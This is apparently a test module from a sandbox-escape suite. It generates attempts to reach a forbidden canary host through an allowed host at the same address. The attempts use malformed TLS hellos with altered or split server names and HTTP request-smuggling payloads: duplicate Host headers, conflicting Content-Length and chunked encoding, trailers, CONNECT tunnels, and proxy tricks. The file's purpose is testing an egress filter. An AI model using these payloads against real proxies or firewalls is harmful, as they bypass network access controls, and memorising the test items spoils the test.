"""Sending to an allowed host what is meant for another one behind the same address."""

from __future__ import annotations

from tests.escape.attempt import Attempt, Limits
from tests.escape.attempts.ways import WAYS
from tests.escape.front import ALLOWED
from tests.escape.judges import canary_reached

_HELLOS = {
    "other-name": "hello(MARK + '.example')",
    "no-name": "hello(None)",
    "empty-name": "hello('')",
    "name-with-dot": "hello(HOST + '.')",
    "name-below": "hello(MARK + '.' + HOST)",
    "name-that-begins-so": "hello(HOST + '.' + MARK)",
    "name-with-zero": "hello(HOST + chr(0) + MARK)",
    "name-as-address": "hello('127.0.0.1')",
    "name-and-another": "hello(HOST, (0, sized(b'\\0' + sized(MARK.encode()))))",
    "other-name-first": "hello(MARK, (0, sized(b'\\0' + sized(HOST.encode()))))",
    "two-names-in-one": """
hello(None, (0, sized(b'\\0' + sized(HOST.encode()) + b'\\0' + sized(MARK.encode()))))
""",
    "name-of-other-kind": "hello(None, (0, sized(b'\\1' + sized(HOST.encode()))))",
    "hidden-name-only": "hello(None, (0xfe0d, b'\\0\\0\\1\\0\\1\\7\\0\\0\\0\\x20' + bytes(32)))",
    "bytes-after-name": "hello(None, (0, sized(b'\\0' + sized(HOST.encode())) + MARK.encode()))",
    "in-two-records": """
(lambda data: b"\\x16\\3\\1" + sized(data[5:60]) + b"\\x16\\3\\1" + sized(data[60:]))(hello(MARK))
""",
    "in-many-records": """
b"".join(b"\\x16\\3\\1" + sized(hello(MARK)[place:place + 3])
         for place in range(5, len(hello(MARK)), 3))
""",
    "other-message-first": "b'\\x16\\3\\1' + sized(b'\\2' + sized(b'', 3)) + hello(HOST)",
    "two-hellos": "hello(HOST, marked=False)[:3] + sized(hello(HOST)[5:] + hello(MARK)[5:])",
    "alert-first": "b'\\x15\\3\\1\\0\\2\\1\\0' + hello(HOST)",
    "old-hello": """
b"\\x80" + sized(
    b"\\1\\3\\1\\0\\3\\0\\0\\0" + sized(MARK.encode()) + b"\\0\\0\\5" + MARK.encode(), 1)
""",
    "request-on-tls-port": "request(MARK)",
    "allowed-request-on-tls-port": "request(HOST, '/' + MARK)",
    "http-two-on-tls-port": "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK.encode()",
    "anything-on-tls-port": "MARK.encode()",
}

_MESSAGES = {
    "hello-on-http-port": "hello(MARK)",
    "http-two": "b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + MARK.encode()",
    "anything": "MARK.encode() + b'\\r\\n\\r\\n'",
    "old-request": "b'GET /' + MARK.encode() + b'\\r\\n'",
    "other-host": "request(MARK + '.example')",
    "no-host": "b'GET /' + MARK.encode() + b' HTTP/1.1\\r\\n\\r\\n'",
    "no-host-at-one-zero": "b'GET /' + MARK.encode() + b' HTTP/1.0\\r\\n\\r\\n'",
    "two-hosts": "request(HOST + '\\r\\nHost: ' + MARK)",
    "two-hosts-other-first": "request(MARK + '\\r\\nHost: ' + HOST)",
    "host-folded": "request(HOST + '\\r\\n ' + MARK)",
    "host-after-space": "request(HOST + ' ' + MARK)",
    "host-with-user": "request(HOST + '@' + MARK)",
    "host-with-port": "request(HOST + ':81', '/' + MARK)",
    "host-with-comma": "request(HOST + ',' + MARK)",
    "space-before-colon": "request(HOST + '\\r\\nHost : ' + MARK)",
    "tab-before-name": "request(HOST + '\\r\\n\\tHost: ' + MARK)",
    "bare-line-end": "request(HOST + '\\nHost: ' + MARK)",
    "bare-return": "request(HOST + '\\rHost: ' + MARK)",
    "absolute-other-host": "request(HOST, 'http://' + MARK + '/')",
    "absolute-own-host-other": "request(MARK, 'http://' + HOST + '/')",
    "other-scheme": "request(HOST, 'https://' + MARK + '/')",
    "asterisk": "request(MARK, '*')",
    "tunnel-within": "f'CONNECT {MARK}:443 HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n'.encode()",
    "tunnel-to-itself": """
f"CONNECT {HOST}:80 HTTP/1.1\\r\\nHost: {HOST}\\r\\n\\r\\n".encode() + request(MARK)
""",
    "second-request": "request(HOST) + request(MARK)",
    "second-request-after-body": """
post("Content-Length: 2", "ab") + request(MARK)
""",
    "second-request-after-chunks": """
post("Transfer-Encoding: chunked", "0\\r\\n\\r\\n") + request(MARK)
""",
    "in-trailers": """
post("Transfer-Encoding: chunked", f"0\\r\\nHost: {MARK}\\r\\n\\r\\n")
""",
    "length-and-chunks": """
(post("Content-Length: 5\\r\\nTransfer-Encoding: chunked", "0\\r\\n\\r\\n")
 + request(MARK))
""",
    "two-lengths": """
post("Content-Length: 0\\r\\nContent-Length: 200") + request(MARK)
""",
    "length-with-sign": """
post("Content-Length: +0") + request(MARK)
""",
    "chunks-of-another-name": """
post("Transfer-Encoding: xchunked", "0\\r\\n\\r\\n") + request(MARK)
""",
    "length-of-connection": """
post("Connection: content-length\\r\\nContent-Length: 0") + request(MARK)
""",
    "chunk-of-bad-length": """
post("Transfer-Encoding: chunked", "-1\\r\\n\\r\\n") + request(MARK)
""",
    "switched-protocol": """
(post("Connection: Upgrade\\r\\nUpgrade: h2c", "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n")
 + request(MARK))
""",
}

_EACH_WAY = """
HOST = {host!r}
data = ({data})
for way in (opened, connect, socks_name):
    sent(way, HOST, {port}, data)
sent(opened, HOST, {port}, *(data[place:place + 1] for place in range(min(len(data), 200))),
     data[200:])
"""

_OF_PROXY = {
    "absolute-through-proxy": """
HOST = "{allowed}"
for host, other in ((HOST, MARK), (MARK, HOST)):
    client = connect(HOST, 80) if FREE else proxy()
    client.settimeout(PATIENCE / 10)
    client.sendall(f"GET http://{{host}}/ HTTP/1.1\\r\\nHost: {{other}}\\r\\n\\r\\n".encode())
    try:
        client.recv(99)
    except OSError:
        pass
""",
    "second-through-proxy": """
HOST = "{allowed}"
client = connect(HOST, 80) if FREE else proxy()
client.settimeout(PATIENCE / 10)
for host in (HOST, MARK):
    client.sendall(f"GET http://{{host}}/ HTTP/1.1\\r\\nHost: {{host}}\\r\\n\\r\\n".encode())
try:
    client.recv(99)
except OSError:
    pass
""",
    "tunnel-after-request": """
HOST = "{allowed}"
client = connect(HOST, 80)
client.settimeout(PATIENCE / 10)
client.sendall(request(HOST) + f"CONNECT {{MARK}}:443 HTTP/1.1\\r\\n\\r\\n".encode())
try:
    client.recv(99)
except OSError:
    pass
""",
}

REQUESTS: tuple[Attempt, ...] = (
    *(
        Attempt(
            f"{prefix}-{name}",
            "hosts",
            WAYS + _EACH_WAY.format(host=ALLOWED, data=data.strip().replace("\n", " "), port=port),
            canary_reached,
            levels=("bash",),
            limits=Limits(wall_s=30),
        )
        for prefix, port, found in (("hello", 443, _HELLOS), ("request", 80, _MESSAGES))
        for name, data in found.items()
    ),
    *(
        Attempt(
            f"request-{name}",
            "hosts",
            WAYS + source.format(allowed=ALLOWED),
            canary_reached,
            limits=Limits(wall_s=30),
        )
        for name, source in _OF_PROXY.items()
    ),
)
